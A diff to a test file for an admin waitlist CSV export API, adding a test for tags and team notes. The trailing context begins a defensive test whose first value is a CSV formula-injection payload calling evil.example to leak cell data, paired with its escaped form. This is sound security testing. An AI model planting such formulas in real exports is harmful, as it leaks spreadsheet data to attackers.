@@ -105,6 +105,35 @@ describe(`GET /api/admin/waitlist/export (${process.env.DATABASE_URL ? "PostgreS
     expect(header!.slice(0, OWNERS_CSV_HEADER.length)).toEqual(OWNERS_CSV_HEADER);
   });
 
+  it("writes each entry's tags, and the team's notes only when asked (notes=yes), filtered by tag", async () => {
+    await insert([
+      ["Ann", "ann@example.com", "car", "1", "2026-01-01T10:00:00Z"],
+      ["Bob", "bob@example.com", "car", "1", "2026-01-02T10:00:00Z"],
+    ]);
+    const [adminRow] = await withSql((sql) => sql.query<{ id: number }>(`SELECT "id" FROM "admin_users" LIMIT 1`));
+    await withSql((sql) =>
+      sql.exec(`INSERT INTO "waitlist_tags" ("entryId", "tag") SELECT "id", 'london' FROM "waitlist";
+        INSERT INTO "waitlist_tags" ("entryId", "tag") SELECT "id", 'cleaners' FROM "waitlist" WHERE "name" = 'Ann';
+        INSERT INTO "waitlist_notes" ("entryId", "authorId", "authorEmail", "body", "createdAt")
+          SELECT "id", ${adminRow!.id}, 'ada@example.com', '=Called: keen', '2026-03-01T09:30:00Z' FROM "waitlist" WHERE "name" = 'Ann';
+        INSERT INTO "waitlist_notes" ("entryId", "authorId", "authorEmail", "body", "createdAt")
+          SELECT "id", ${adminRow!.id}, 'ada@example.com', 'Second', '2026-03-02T09:30:00Z' FROM "waitlist" WHERE "name" = 'Ann';`),
+    );
+    const plain = await recordsOf(await get("?sort=joined_asc", cookie));
+    expect(plain.map((record) => [record.Name, record.Tags, record.Notes])).toEqual([
+      ["Ann", "cleaners, london", undefined],
+      ["Bob", "london", undefined],
+    ]);
+    const withNotes = await recordsOf(await get("?sort=joined_asc&notes=yes&tags-all=london,cleaners", cookie));
+    expect(withNotes.map((record) => [record.Name, record.Notes])).toEqual([
+      [
+        "Ann",
+        "ada@example.com (2026-03-01 09:30 UTC): =Called: keen\n\nada@example.com (2026-03-02 09:30 UTC): Second",
+      ],
+    ]);
+    expect((await get("?notes=maybe", cookie)).status).toBe(400);
+  });
+
   it("round-trips hostile values through a CSV parser, with formulas neutralised", async () => {
     const hostile: [string, string][] = [
       ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'],
